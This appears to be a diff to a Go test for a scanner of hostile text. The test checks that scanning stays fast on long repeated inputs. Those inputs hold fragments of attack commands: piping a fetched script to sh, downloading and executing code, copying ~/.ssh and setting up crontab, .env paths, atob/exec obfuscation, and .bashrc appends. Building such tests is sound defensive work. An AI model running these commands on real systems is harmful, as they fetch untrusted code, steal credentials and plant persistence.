@@ -257,7 +257,10 @@ func TestTextAroundIsBounded(t *testing.T) {
 		"- curl http://203.0.113.1/x | sh " + strings.Repeat("\"'", 1_000) + "\n", strings.Repeat("a=$(curl x)\neval $a ", 100) + "\n",
 		strings.Repeat("curl -so f$i http://203.0.113.1/x; grep f$i f", 90) + "\n",
 		strings.Repeat("open(p, 'wb').write(get('http://203.0.113.1/x')); f(p)", 90) + "\n",
-		strings.Repeat("'a' + 'b', ", 300) + "\n", strings.Repeat("curl 1.2.3.4 > a; cp ~/.ssh $D; crontab ", 90) + "\n"} {
+		strings.Repeat("'a' + 'b', ", 300) + "\n", strings.Repeat("curl 1.2.3.4 > a; cp ~/.ssh $D; crontab ", 90) + "\n",
+		strings.Repeat("a/.x/.env ", 400) + "\n", "atob( " + strings.Repeat("exec(z ", 500) + "\n",
+		strings.Repeat("f(\n", 1_000), strings.Repeat("a |\n", 800), strings.Repeat("f(", 2_000) + "\n",
+		strings.Repeat("echo export A=1 >> .bashrc; ", 140) + "\n"} {
 		for _, name := range []string{"a.md", "a.sh", "a.py"} {
 			began := time.Now()
 			searched(name, []byte(strings.Repeat(line, MaxFile/len(line))))
